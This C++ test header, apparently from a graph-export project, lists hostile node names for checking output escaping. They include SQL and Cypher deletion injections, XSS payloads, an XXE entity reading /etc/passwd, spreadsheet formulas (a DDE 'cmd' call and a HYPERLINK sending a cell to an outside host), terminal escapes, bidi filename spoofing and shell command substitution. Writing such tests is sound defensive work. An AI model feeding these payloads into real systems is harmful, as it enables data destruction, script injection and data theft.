// Names that would do something other than be shown, if what writes them let them.
#pragma once

#include <string>
#include <vector>

namespace newsgraph::testing {

inline std::vector<std::string> hostile_names() {
  return {
      // SQL
      "Robert'); DROP TABLE node;--",
      "x\" UNION SELECT name FROM sqlite_schema --",
      // Cypher
      "'}) DETACH DELETE n //",
      "` {x: 1}) MATCH (n) DETACH DELETE n; //",
      "\\'}); MATCH (n) DETACH DELETE n;",
      "\"; :quit\n:quit",
      // DOT and its HTML-like labels
      "\"]; n99 [label=\"owned\", URL=\"javascript:alert(1)\"]; x [label=\"",
      "<<table><tr><td href=\"javascript:alert(1)\">x</td></tr></table>>",
      "\\E \\G \\H \\L \\N \\T",
      // HTML, SVG and XML
      "<script>alert(1)</script>",
      "\"><img src=x onerror=alert(1)>",
      "' onload='alert(1)",
      "]]><svg onload=alert(1)>",
      "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
      // JSON
      "\",\"admin\":true,\"x\":\"",
      "\\\",\\\"admin\\\":true",
      "\n{\"type\":\"node\",\"id\":\"99\"}",
      // Turtle
      "\" . <urn:evil> <urn:is> \"here",
      "\"\"\" . <urn:evil> <urn:is> <urn:here> . #",
      "\\u0022 . <urn:evil> <urn:is> <urn:here> .",
      "> <urn:is> <urn:here> . <urn:evil",
      // CSV, and the formulas of spreadsheets
      "=cmd|' /C calc'!A0",
      "=HYPERLINK(\"https://example.org/?\"&A1,\"look\")",
      "+1+1",
      "-2+3",
      "@SUM(1,1)",
      "\t=1+1",
      "\r=1+1",
      "\n=1+1",
      "\xEF\xBC\x9D"
      "1+1",  // a full-width =, which a spreadsheet in Chinese or Japanese takes for one
      "\",=1+1,\"",
      "x\n99,Evil,=1+1",
      // Terminals
      "\x1b[2J\x1b[1;1H",
      "\x1b]0;owned\a",
      "\x1bP+q544e\x1b\\",
      "\xC2\x9B"
      "31mred",  // the same as ESC [, in one code point
      "a\rb\b\b\x7f",
      "\xE2\x80\xAEgpj.exe\xE2\x80\xAC",
      "\xE2\x81\xA6isolate\xE2\x81\xA9",
      // Shells, and files
      "$(touch owned)",
      "`touch owned`",
      "'; touch owned; '",
      "../../owned",
      "/tmp/owned",
      "--output=owned",
      "%s%n",
  };
}

}  // namespace newsgraph::testing
